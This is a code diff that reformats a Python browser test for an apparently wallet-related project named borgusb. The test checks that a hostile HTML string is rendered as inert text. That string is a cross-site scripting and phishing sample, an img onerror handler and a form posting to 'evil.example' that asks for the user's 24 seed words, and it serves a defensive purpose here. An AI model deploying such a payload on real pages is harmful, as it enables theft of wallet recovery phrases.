@@ -31,13 +31,24 @@ from borgusb.conduit.network import NoEndpoint
 from borgusb.keystore import KdfParams
 
 CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
-ARGS = ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
-        "--disable-component-update", "--disable-sync"]
-WORDS = ("legal winner thank year wave sausage worth useful legal winner thank year wave sausage worth useful "
-         "legal winner thank year wave sausage worth title")
+ARGS = [
+    "--no-sandbox",
+    "--disable-gpu",
+    "--disable-quic",
+    "--no-first-run",
+    "--disable-background-networking",
+    "--disable-component-update",
+    "--disable-sync",
+]
+WORDS = (
+    "legal winner thank year wave sausage worth useful legal winner thank year wave sausage worth useful "
+    "legal winner thank year wave sausage worth title"
+)
 FAST = KdfParams(iterations=1, lanes=1, memory_kib=1024)
-HOSTILE = ('<img src=x onerror="window.__pwned=1"><form id=evil action="https://evil.example/">'
-           '<b>Enter your 24 words</b><input name=words></form>')
+HOSTILE = (
+    '<img src=x onerror="window.__pwned=1"><form id=evil action="https://evil.example/">'
+    "<b>Enter your 24 words</b><input name=words></form>"
+)
 
 
 def free_port() -> int:
@@ -122,7 +133,8 @@ def browser_page():
 def assert_literal(page, selector: str) -> None:
     """The hostile text is on the page as text, and nothing it describes exists."""
     page.wait_for_function(
-        "sel => (document.querySelector(sel)?.textContent || '').includes('<img src=x')", arg=selector, timeout=15_000)
+        "sel => (document.querySelector(sel)?.textContent || '').includes('<img src=x')", arg=selector, timeout=15_000
+    )
     text = page.inner_text(selector)
     assert "<form id=evil" in text and "Enter your 24 words" in text
     assert page.locator(f"{selector} img, {selector} form, {selector} input, {selector} b").count() == 0
